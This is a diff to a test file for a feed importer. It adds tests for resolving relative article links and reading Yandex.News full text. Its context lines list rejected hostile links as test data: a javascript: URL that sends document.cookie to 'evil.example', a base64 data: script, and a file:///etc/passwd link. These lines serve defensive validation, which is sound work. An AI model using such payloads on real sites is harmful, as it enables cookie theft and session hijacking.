@@ -209,13 +209,42 @@ describe('feed item links that are not web addresses', () => {
       undefined,
       undefined,
       undefined,
-      '/news/2025/11/snow',
+      // Relative: read against the channel's <link>.
+      'https://news.example.kz/news/2025/11/snow',
       'https://news.example.kz/news/park',
     ]);
     expect(batch.notes?.map((note) => [note.location.index, note.note])).toEqual([
       [0, 'link "javascript:fetch(\'//evil.example/\'+document.cookie)" is not an http(s) address; not kept'],
       [1, 'link "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" is not an http(s) address; not kept'],
       [2, 'link "file:///etc/passwd" is not an http(s) address; not kept'],
+    ]);
+  });
+});
+
+describe('feed items as news sites write them', () => {
+  it('reads the article of a Yandex.News feed from yandex:full-text, CDATA or escaped', async () => {
+    const batch = await importFixture('rss-yandex-full-text-relative-links.xml');
+    expect(batch.posts.map((post) => post.text)).toEqual([
+      'Акимат Алматы начал ремонт дороги на проспекте Абая.\nРаботы продлятся до мая.',
+      'Завтра не будет воды & света в домах на улице Жандосова.',
+      'Текст из описания',
+    ]);
+  });
+
+  it('makes relative item links absolute against the channel link', async () => {
+    const batch = await importFixture('rss-yandex-full-text-relative-links.xml');
+    expect(batch.posts.map((post) => post.url)).toEqual([
+      'https://vecher.example.kz/news/2024/03/10/roads',
+      'https://vecher.example.kz/news/2024/03/11/water?utm_source=yandex',
+      'https://vecher.example.kz/news/3',
+    ]);
+  });
+
+  it("makes relative Atom links absolute against the feed's xml:base", async () => {
+    const batch = await importFixture('atom-xml-base-relative-links.xml');
+    expect(batch.posts.map((post) => post.url)).toEqual([
+      'https://news.example.kz/kk/articles/123',
+      'https://news.example.kz/ru/articles/124',
     ]);
   });
 });
